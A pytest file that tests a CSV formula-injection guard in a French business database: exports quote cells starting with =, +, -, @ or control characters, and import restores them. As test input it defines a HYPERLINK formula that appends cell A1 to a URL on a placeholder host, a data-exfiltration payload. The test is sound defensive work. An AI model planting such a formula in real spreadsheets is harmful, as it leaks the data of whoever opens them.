"""Spreadsheet formula injection: exported cells never start a formula, and import reads them back."""

from __future__ import annotations

import csv

import pytest

from db.companies.lists import CompanyFilters, ContactFilters
from db.companies.prospects import ProspectFilters
from db.core.forms import COMPANY_FIELDS
from db.core.models import Company, CompanyKind, Contact, Document, Offer, Site
from db.documents.storage import DocumentFilters
from db.exchange.csv_format import FORMULA_STARTS, export_rows, neutralise_cell, restore_cell
from db.exchange.exports import (
    export_companies,
    export_contacts,
    export_documents,
    export_prospects,
    export_quotes,
)
from db.exchange.prospect_import import import_prospects_file
from db.files.folders import FolderFile, outbox
from db.quotes.catalogue import OfferFilters, export_offers
from db.quotes.lists import QuoteFilters

PHONE = "+33 1 23 45 67 89"
FORMULA = '=HYPERLINK("http://exemple.invalid/?"&A1;"Cliquez")'


def target(tmp_path, name: str) -> FolderFile:
    """A file of a test outbox, by name, as every export now takes it."""
    return FolderFile(outbox(tmp_path / "files", "revendeur"), name)


def written(tmp_path, name: str):
    return outbox(tmp_path / "files", "revendeur").path / name


def read_raw(path) -> list[list[str]]:
    """The cells as written in the file (no unquoting of the formula guard)."""
    with open(path, encoding="utf-8-sig", newline="") as stream:
        return list(csv.reader(stream, delimiter=";"))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        (PHONE, "'" + PHONE),
        ("-2+3", "'-2+3"),
        ("@SOMME(A1:A9)", "'@SOMME(A1:A9)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        (-5, "'-5"),  # not only strings
        ("'=déjà protégé", "''=déjà protégé"),  # one more quote: the import removes one
        ("''+x", "'''+x"),
        # Left as they are: nothing a spreadsheet would run.
        ("Jean-Pierre", "Jean-Pierre"),
        ("l'@ccueil", "l'@ccueil"),
        ("'quoted", "'quoted"),
        ("'", "'"),
        ("82,80", "82,80"),
        (" =1", " =1"),
        ("", ""),
        (None, ""),
        (1743, "1743"),
    ],
)
def test_a_cell_is_written_with_a_quote_only_when_it_would_start_a_formula(value, written):
    assert neutralise_cell(value) == written
    assert not neutralise_cell(value).startswith(FORMULA_STARTS)
    if value is not None:
        assert restore_cell(written) == str(value)


def test_restore_gives_back_every_value_neutralise_wrote():
    starts = ["", "'", "''", "'''"]
    bodies = ["", "=", "+", "-", "@", "\t", "\r", "a", " ", "'", "=1", "x=1", "1-2"]
    for start in starts:
        for body in bodies:
            for end in ("", "SUITE", "'=", "+33"):
                value = start + body + end
                assert restore_cell(neutralise_cell(value)) == value, repr(value)
                assert not neutralise_cell(value).startswith(FORMULA_STARTS), repr(value)


def test_export_rows_writes_the_header_and_every_cell_through_the_guard(tmp_path):
    out = target(tmp_path, "liste.csv")
    assert export_rows(out, ["Nom", "=X"], [[FORMULA, PHONE], ["Jean-Pierre", -1]]) == 2
    assert read_raw(written(tmp_path, "liste.csv")) == [
        ["Nom", "'=X"],
        ["'" + FORMULA, "'" + PHONE],
        ["Jean-Pierre", "'-1"],
    ]


def test_an_exported_file_imports_back_with_the_values_it_holds(scopes, tmp_path):
    """The guard's quote is undone on import: the phone keeps its '+', the name its '='."""
    values = {
        "name": "=NOM PIÉGÉ SARL",
        "siren": "",
        "siret": "",
        "site_number": PHONE,
        "site_street": "-rue du Port",
        "site_postcode": "44000",
        "site_city": "@NANTES",
        "site_country": "France",
    }
    quoted = dict(values, name="'=DÉJÀ CITÉE", site_postcode="75001", site_city="PARIS")
    export_rows(
        target(tmp_path, "aller-retour.csv"),
        [f.label for f in COMPANY_FIELDS],
        [[row[f.name] for f in COMPANY_FIELDS] for row in (values, quoted)],
    )
    out = written(tmp_path, "aller-retour.csv")
    raw = out.read_bytes().decode("utf-8-sig")
    assert f"'{PHONE}" in raw and "'=NOM PIÉGÉ SARL" in raw and "''=DÉJÀ CITÉE" in raw

    report = import_prospects_file(scopes["revendeur"], out)

    assert report.ok and len(report.imported) == 2
    for row, values_in in zip(report.imported, (values, quoted), strict=True):
        company = Company.get_by_id(row.company_id)
        site = Site.get(Site.company == company.id)
        assert (company.name, site.number, site.street, site.postcode, site.city) == (
            values_in["name"],
            PHONE,
            "-rue du Port",
            values_in["site_postcode"],
            values_in["site_city"],
        )


def test_every_list_export_neutralises_what_users_typed(scopes, tmp_path):
    """A formula typed as a name reaches each export quoted, and nothing else changes."""
    reseller = scopes["revendeur"]
    staff = scopes["operateur"]
    client = (
        reseller.companies().where(Company.kind == CompanyKind.CLIENT).order_by(Company.id).first()
    )
    Company.update(name=FORMULA).where(Company.id == client.id).execute()
    Contact.update(last_name="-DUPONT", first_name="@Jean").where(
        Contact.company == client.id
    ).execute()
    Document.create(
        company=client.id,
        kind=Document.KIND_RIB,
        filename="=rib.pdf",
        size=5,
        sha256="0" * 64,
        content=b"%PDF-",
    )
    prospect = Company.get_by_id(1743)
    Company.update(name="+PROSPECT").where(Company.id == prospect.id).execute()
    Offer.update(name="=OFFRE").where(Offer.id == Offer.select(Offer.id).limit(1)).execute()

    exports = {
        "clients": export_companies(
            reseller,
            CompanyKind.CLIENT,
            CompanyFilters(identifiant=str(client.id)),
            target(tmp_path, "clients.csv"),
        ),
        "contacts": export_contacts(
            reseller, ContactFilters(company=str(client.id)), target(tmp_path, "contacts.csv")
        ),
        "devis": export_quotes(reseller, QuoteFilters(), target(tmp_path, "devis.csv")),
        "formulaires": export_documents(
            reseller, DocumentFilters(company=str(client.id)), target(tmp_path, "formulaires.csv")
        ),
        "prospects": export_prospects(
            reseller, ProspectFilters(identifiant="1743"), target(tmp_path, "prospects.csv")
        ),
        "catalogue": export_offers(staff, OfferFilters(), target(tmp_path, "catalogue.csv")),
    }
    assert all(count >= 1 for count in exports.values()), exports
    cells = {
        name: [c for row in read_raw(written(tmp_path, f"{name}.csv")) for c in row]
        for name in exports
    }
    for name, found in cells.items():
        assert not [c for c in found if c.startswith(FORMULA_STARTS)], name
    assert "'" + FORMULA in cells["clients"]
    assert {"'-DUPONT", "'@Jean", "'" + FORMULA} <= set(cells["contacts"])
    assert "'" + FORMULA in cells["devis"]
    assert {"'=rib.pdf", "'" + FORMULA} <= set(cells["formulaires"])
    assert "'+PROSPECT" in cells["prospects"]
    assert "'=OFFRE" in cells["catalogue"]
